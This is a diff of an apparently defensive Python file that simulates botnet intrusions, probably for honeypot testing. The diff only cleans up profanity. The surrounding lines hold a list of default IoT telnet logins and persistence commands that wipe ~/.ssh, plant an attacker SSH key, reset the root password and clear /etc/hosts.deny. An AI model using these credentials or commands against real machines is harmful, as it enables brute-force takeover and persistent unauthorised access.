@@ -26,7 +26,7 @@ TELNET_LOGINS = (
     "administrator:1234 666666:666666 888888:888888 ubnt:ubnt root:klv1234 root:Zte521 root:hi3518 root:jvbzd "
     "root:anko root:zlxx. root:7ujMko0vizxv root:7ujMko0admin root:system root:ikwb root:dreambox root:user "
     "root:realtek root:00000000 admin:1111111 admin:1234 admin:12345 admin:54321 admin:123456 admin:7ujMko0admin "
-    "admin:pass admin:meinsm tech:tech mother:fucker"
+    "admin:pass admin:meinsm tech:tech"
 ).split()
 
 # Name the client gives itself, and what it offers: together they make its HASSH.
@@ -104,7 +104,7 @@ DROPS = (
 
 KEY_DROP = (
     "cd ~; chattr -ia .ssh; lockr -ia .ssh",
-    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABIwAAAQEAsample{number} mdrfckr">>'
+    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABIwAAAQEAsample{number} sample">>'
     ".ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
     'echo "root:{password}"|chpasswd|bash',
     "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny",
